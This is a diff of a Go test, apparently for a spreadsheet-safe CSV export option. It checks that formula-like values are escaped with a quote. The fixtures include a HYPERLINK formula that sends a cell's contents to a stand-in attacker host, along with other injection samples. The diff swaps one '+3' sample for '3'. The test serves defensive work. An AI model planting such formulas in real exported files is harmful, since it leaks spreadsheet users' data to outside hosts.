@@ -68,14 +68,14 @@ func TestD1ExportedValuesAreExactAndSafeForSpreadsheetsOnRequest(t *testing.T) {
 	}
 	exact := [][]string{
 		{"name", "change", "note"}, {"=HYPERLINK(\"http://evil.example/?\"&B2)", "-12.5", "plain"},
-		{"@SUM(A1)", "+3", "a;=b"}, {"-2+3", "-1e-9", "two\nlines"}, {"\tx", "", "="},
+		{"@SUM(A1)", "3", "a;=b"}, {"-2+3", "-1e-9", "two\nlines"}, {"\tx", "", "="},
 	}
 	if got := read(); !slices.EqualFunc(got, exact, slices.Equal) {
 		t.Errorf("D-1 exact: %q", got)
 	}
 	safe := [][]string{
 		{"name", "change", "note"}, {"'=HYPERLINK(\"http://evil.example/?\"&B2)", "-12.5", "plain"},
-		{"'@SUM(A1)", "+3", "a;'=b"}, {"'-2+3", "-1e-9", "two\nlines"}, {"'\tx", "", "'="},
+		{"'@SUM(A1)", "3", "a;'=b"}, {"'-2+3", "-1e-9", "two\nlines"}, {"'\tx", "", "'="},
 	}
 	if got := read("--spreadsheet-safe"); !slices.EqualFunc(got, safe, slices.Equal) {
 		t.Errorf("D-1 safe: %q", got)
